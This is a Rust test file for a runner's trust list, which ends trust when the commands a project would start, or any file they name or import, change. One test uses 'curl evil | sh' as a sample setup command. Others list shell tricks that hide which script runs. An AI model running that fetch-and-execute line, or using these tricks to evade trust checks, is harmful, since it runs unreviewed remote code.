//! What ends trust, and what does not.

use super::*;

fn settings(text: &str) -> RunnerSettings {
    baton_wire::project_file::parse(text).unwrap().runner
}

#[test]
fn trust_is_in_what_would_be_started_and_ends_when_that_changes() {
    let (project, state) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    std::fs::write(project.path().join("agent.py"), "print(1)").unwrap();
    let dir = Dir::open(project.path()).unwrap();
    let file =
        settings("[executors.mine]\nkind = \"command\"\nrun = [\"python3\", \"agent.py\"]\n");
    let list = TrustList::new(state.path().join("baton/trusted"));
    let first = Programs::of(&dir, &file, &[], &[]);
    assert_ne!(list.trusted(project.path()).unwrap(), first, "a new project is not trusted");
    list.allow(project.path(), &first).unwrap();
    assert_eq!(list.trusted(project.path()).unwrap(), first);
    assert_ne!(list.trusted(state.path()).unwrap(), first, "another place is another project");

    std::fs::write(project.path().join("agent.py"), "print(2)").unwrap();
    let now = Programs::of(&dir, &file, &[], &[]);
    let changes = now.changes_since(&list.trusted(project.path()).unwrap());
    assert!(matches!(changes.as_slice(), [TrustChange::Changed { .. }]), "{changes:?}");
    let other = settings("[runner]\nsetup = [\"curl evil | sh\"]\n");
    let changes = Programs::of(&dir, &other, &[], &[]).changes_since(&first);
    assert_eq!(changes.len(), 2, "one came and one went: {changes:?}");
}

fn programs(project: &Path, run: &[&str]) -> Programs {
    let run: Vec<String> = run.iter().map(|it| format!("{it:?}")).collect();
    let text = format!("[executors.mine]\nkind = \"command\"\nrun = [{}]\n", run.join(", "));
    Programs::of(&Dir::open(project).unwrap(), &settings(&text), &[], &[])
}

#[test]
fn every_file_that_a_command_names_in_any_way_is_a_part_of_what_is_trusted() {
    let project = tempfile::tempdir().unwrap();
    std::fs::create_dir(project.path().join("tools")).unwrap();
    for run in [
        &["sh", "tools/a"][..],
        &["./tools/a"],
        &["tools/a"],
        &["sh", "-c", "cd . && tools/a --fast; true"],
        &["sh", "-c", "(. ./tools/a)"],
        &["node", "--require=./tools/a", "x"],
        &["agent", "--config", "tools/../tools/a"],
        &["agent", "@tools/a"],
    ] {
        std::fs::write(project.path().join("tools/a"), "1").unwrap();
        let before = programs(project.path(), run);
        assert_eq!(before.problems().count(), 0, "{before:?}");
        std::fs::write(project.path().join("tools/a"), "2").unwrap();
        assert_ne!(programs(project.path(), run), before, "{run:?}");
    }
}

#[test]
fn what_cannot_be_followed_is_tied_to_every_file_and_said_so() {
    let project = tempfile::tempdir().unwrap();
    let root = project.path().canonicalize().unwrap();
    std::fs::create_dir(root.join("tools")).unwrap();
    std::fs::write(root.join("tools/a.sh"), "1").unwrap();
    std::fs::write(root.join("tools/Makefile"), "1").unwrap();
    let roundabout =
        format!("{}/../{}/tools/a.sh", root.display(), root.file_name().unwrap().to_str().unwrap());
    let followed: [&[&str]; 3] =
        [&["python3", "tools"], &["make", "-C", "tools"], &["pytest", "--rootdir=tools"]];
    let unknown: [&[&str]; 15] = [
        &["sh", "-c", "cd tools && sh ./a.sh"],
        &["sh", &roundabout],
        &["make", "-ftools/Makefile"],
        &["make", "-Ctools"],
        &["sh", "-c", "sh too''ls/a.sh"],
        &["sh", "-c", "sh tools/\\a.sh"],
        &["sh", "-c", "x=tools; sh $x/a.sh"],
        &["sh", "-c", "sh $(echo tools)/a.sh"],
        &["sh", "-c", "sh ~+/tools/a.sh"],
        &["sh", "-c", "for f in *; do sh $f; done"],
        &["find", ".", "-name", "a.sh", "-exec", "sh", "{}", ";"],
        &["sh", "-c", "ls tools | xargs sh"],
        &["python3", "-m", "tools"],
        &["sh", "tools/../tools/a.sh"],
        &["env", "bash", "-c", "sh `ls tools/a.sh`"],
    ];
    let all = followed.iter().map(|it| (*it, false)).chain(unknown.iter().map(|it| (*it, true)));
    for (run, is_unknown) in all {
        std::fs::write(root.join("tools/a.sh"), "1").unwrap();
        std::fs::write(root.join("tools/Makefile"), "1").unwrap();
        let before = programs(&root, run);
        assert_eq!(before.problems().count(), 0, "{before:?}");
        let is_said = before.0["executor mine"].contains(reach::CANNOT_FOLLOW);
        assert_eq!(is_said, is_unknown, "{before:?}");
        std::fs::write(root.join("tools/a.sh"), "2").unwrap();
        std::fs::write(root.join("tools/Makefile"), "2").unwrap();
        assert_ne!(programs(&root, run), before, "{run:?}");
    }
    for run in [&["cargo", "test"][..], &["npm", "test"], &["grep", "-q", "ok", "tools/a.sh"]] {
        let before = programs(&root, run);
        std::fs::write(root.join("tools/a.sh"), "3").unwrap();
        assert_eq!(programs(&root, run), before, "it is trusted as what it is: {run:?}");
        std::fs::write(root.join("tools/a.sh"), "2").unwrap();
    }
}

#[test]
fn what_a_script_imports_or_starts_from_beside_it_is_a_part_of_what_is_trusted() {
    for (run, script, text, changed) in [
        (&["python3", "tools/agent.py"][..], "tools/agent.py", "import h", "tools/h.py"),
        (&["python3", "-u", "tools/agent.py"], "tools/agent.py", "import p.h", "tools/p/h.py"),
        (&["tools/agent"], "tools/agent", "#!/usr/bin/env python3\nimport h", "tools/h.py"),
        (&["node", "tools/a.mjs"], "tools/a.mjs", "import './h.mjs'", "tools/h.mjs"),
        (&["uv", "run", "tools/agent.py"], "tools/agent.py", "import h", "tools/h.py"),
        (&["python3", "agent.py"], "agent.py", "import h", "h.py"),
        (&["python3", "agent.py"], "agent.py", "from tools import h", "tools/h.py"),
        (&["sh", "tools/a.sh"], "tools/a.sh", ". \"$(dirname \"$0\")/b.sh\"", "tools/b.sh"),
        (&["sh", "-c", "sh tools/a.sh"], "tools/a.sh", "sh tools/b", "tools/b"),
        (&["sh", "a.sh"], "a.sh", "python3 ./h.py", "h.py"),
        (&["sh", "tools/a.sh"], "tools/a.sh", "python3 tools/c.py", "tools/h.py"),
        (&["python3", "-mtools.agent"], "tools/agent.py", "1", "tools/agent.py"),
        (&["python3", "-um", "tools.agent"], "tools/agent.py", "1", "tools/agent.py"),
        (&["python3", "-X", "dev", "-c", "import tools"], "tools/a.py", "1", "tools/a.py"),
        (&["sh", "-c", "cat tools/a.sh | sh"], "tools/a.sh", "1", "tools/a.sh"),
        (&["sh", "-c", "grep . tools/a.sh | bash -s"], "tools/a.sh", "1", "tools/a.sh"),
        (&["sh", "-c", "(cat tools/a.x) | tools/b.sh"], "tools/b.sh", "1", "tools/a.x"),
        (&["awk", "BEGIN{system(\"sh too\" \"ls/a\")}"], "tools/a", "1", "tools/a"),
        (&["sort", "--compress-program=tools/a", "x"], "tools/a", "1", "tools/a"),
    ] {
        let project = tempfile::tempdir().unwrap();
        let write = |path: &str, text: &str| {
            let path = project.path().join(path);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(path, text).unwrap();
        };
        write("tools/c.py", "import h");
        write("README.md", "agent.py, a.sh");
        if changed != script {
            write(changed, "1");
        }
        write(script, text);
        let before = programs(project.path(), run);
        assert_eq!(before.problems().count(), 0, "{before:?}");
        assert_eq!(programs(project.path(), run), before, "{run:?}");
        write(changed, "2 and more");
        assert_ne!(programs(project.path(), run), before, "{run:?} {changed}");
    }
}

#[test]
fn what_an_agent_works_on_and_what_a_program_caches_are_no_part_of_what_is_trusted() {
    for run in [
        &["python3", "agent.py"][..],
        &["sh", "check.sh"],
        &["python3", "tools/agent.py"],
        &["python3", "tools"],
    ] {
        let project = tempfile::tempdir().unwrap();
        for folder in ["src", "tools/__pycache__"] {
            std::fs::create_dir_all(project.path().join(folder)).unwrap();
        }
        std::fs::write(project.path().join("agent.py"), "open('src/app.py')").unwrap();
        std::fs::write(project.path().join("tools/agent.py"), "1").unwrap();
        std::fs::write(project.path().join("check.sh"), "grep -q ok src/app.py README.md").unwrap();
        let before = programs(project.path(), run);
        for file in ["src/app.py", "README.md", "tools/__pycache__/agent.pyc"] {
            std::fs::write(project.path().join(file), "changed").unwrap();
        }
        assert_eq!(programs(project.path(), run), before);
    }
}

#[test]
fn a_tool_that_starts_what_a_file_says_is_trusted_with_that_file_and_said_to_start_more() {
    for (run, file) in [
        (&["make", "agent"][..], "Makefile"),
        (&["env", "A=b", "make"], "GNUmakefile"),
        (&["sh", "-c", "npm ci && npm run agent"], "package.json"),
        (&["npx", "tsc"], ".npmrc"),
        (&["just", "check"], "justfile"),
        (&["cargo", "test"], "build.rs"),
        (&["cargo", "test"], ".cargo/config.toml"),
        (&["python3", "-m", "pytest"], "conftest.py"),
        (&["./gradlew", "test"], "build.gradle"),
    ] {
        let project = tempfile::tempdir().unwrap();
        std::fs::create_dir(project.path().join(".cargo")).unwrap();
        std::fs::write(project.path().join("gradlew"), "1").unwrap();
        let before = programs(project.path(), run);
        assert!(before.0["executor mine"].contains(reach::STARTS_MORE), "{before:?}");
        std::fs::write(project.path().join(file), "1").unwrap();
        let now = programs(project.path(), run);
        assert_ne!(now, before, "a new file counts too");
        std::fs::write(project.path().join(file), "2").unwrap();
        assert_ne!(programs(project.path(), run), now, "{run:?}");
    }
}

#[test]
fn a_dependency_that_an_agent_adds_does_not_end_trust_and_a_script_of_a_package_does() {
    for (run, file, before, dependency, script) in [
        (
            ["npm", "test"],
            "package.json",
            r#"{"scripts": {"test": "a"}}"#,
            r#"{"version": "2", "devDependencies": {"b": "1"}, "scripts": {"test": "a"}}"#,
            r#"{"scripts": {"test": "b"}}"#,
        ),
        (
            ["cargo", "test"],
            "Cargo.toml",
            "[package]\n",
            "[package]\n[dev-dependencies]\na = \"1\"\n",
            "[package]\nbuild = \"tools/b.rs\"\n",
        ),
    ] {
        let project = tempfile::tempdir().unwrap();
        let with = |text: &str| {
            std::fs::write(project.path().join(file), text).unwrap();
            programs(project.path(), &run)
        };
        let trusted = with(before);
        assert_eq!(with(dependency), trusted, "{file}");
        assert_ne!(with(script), trusted, "{file}");
    }
}

#[test]
fn variables_and_copied_files_are_a_part_of_it_too() {
    let project = tempfile::tempdir().unwrap();
    let dir = Dir::open(project.path()).unwrap();
    let text = "[runner]\nsetup = [\"sh ./a\"]\nenv_files = [\".env\"]\n[runner.env]\nBASH_ENV = \"b\"\n\
        [executors.mine]\nkind = \"scripted\"\nscript = \"c\"\n";
    for name in ["a", "b", "c", ".env"] {
        std::fs::write(project.path().join(name), "1").unwrap();
    }
    for name in ["a", "b", "c", ".env"] {
        let before = Programs::of(&dir, &settings(text), &[], &[]);
        std::fs::write(project.path().join(name), "2").unwrap();
        let changes = Programs::of(&dir, &settings(text), &[], &[]).changes_since(&before);
        assert_eq!(changes.len(), 1, "{name}: {changes:?}");
    }
}

#[test]
fn links_and_programs_that_only_a_workspace_could_have_are_never_trusted() {
    let (project, outside) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    std::fs::write(outside.path().join("a"), "1").unwrap();
    let link = std::os::unix::fs::symlink::<std::path::PathBuf, _>;
    link(outside.path().to_owned(), project.path().join("folder")).unwrap();
    link(outside.path().join("a"), project.path().join("link")).unwrap();
    for run in [
        &["sh", "link"][..],
        &["./link"],
        &["folder/a"],
        &["sh", "-c", "folder/a"],
        &["./missing"],
        &["../a"],
    ] {
        let programs = programs(project.path(), run);
        assert_eq!(programs.problems().count(), 1, "{programs:?}");
        assert!(!programs.is_allowed_by(&programs), "{run:?}");
    }
}

#[test]
fn the_same_letters_cut_into_other_words_are_another_command() {
    let project = tempfile::tempdir().unwrap();
    let lines = [
        &["sh", "-c", "echo a"][..],
        &["sh", "-c", "echo", "a"],
        &["sh", "-c echo a"],
        &["sh", "-c", "'echo a'"],
        &["sh", "-c", "echo a", "b"],
    ];
    let all = lines.map(|run| programs(project.path(), run));
    for (n, one) in all.iter().enumerate() {
        for other in &all[n + 1..] {
            assert_ne!(one, other);
        }
    }
    assert_eq!(all[0].0["executor mine"], "sh -c 'echo a'", "as it would be typed");
    let dir = Dir::open(project.path()).unwrap();
    let with = |env: &str| {
        let text = format!("[runner]\nsetup = [\"true\"]\n[runner.env]\n{env}\n");
        Programs::of(&dir, &settings(&text), &[], &[])
    };
    assert_ne!(with("A = \"1\"\nB = \"2\""), with("A = \"1 B=2\""), "variables alike");
}

#[test]
fn what_is_known_only_when_it_is_started_is_never_trusted_and_patterns_are_hashed() {
    let project = tempfile::tempdir().unwrap();
    std::fs::write(project.path().join("a.sh"), "1").unwrap();
    for run in [
        &["sh", "/proc/self/cwd/a.sh"][..],
        &["sh", "-c", "cat /dev/fd/0 | sh"],
        &["sh", "/dev/stdin"],
    ] {
        let programs = programs(project.path(), run);
        assert!(!programs.is_allowed_by(&programs), "{programs:?}");
        let (_, why) = programs.problems().next().unwrap();
        assert!(why.contains("write the path of the file"), "{why}");
    }
    for run in [&["sh", "-c", "sh ./*.sh"][..], &["sh", "-c", ". $PWD/a.sh"]] {
        std::fs::write(project.path().join("a.sh"), "1").unwrap();
        let before = programs(project.path(), run);
        assert_eq!(before.problems().count(), 0, "{before:?}");
        std::fs::write(project.path().join("a.sh"), "2").unwrap();
        assert_ne!(programs(project.path(), run), before, "{run:?}");
    }
}
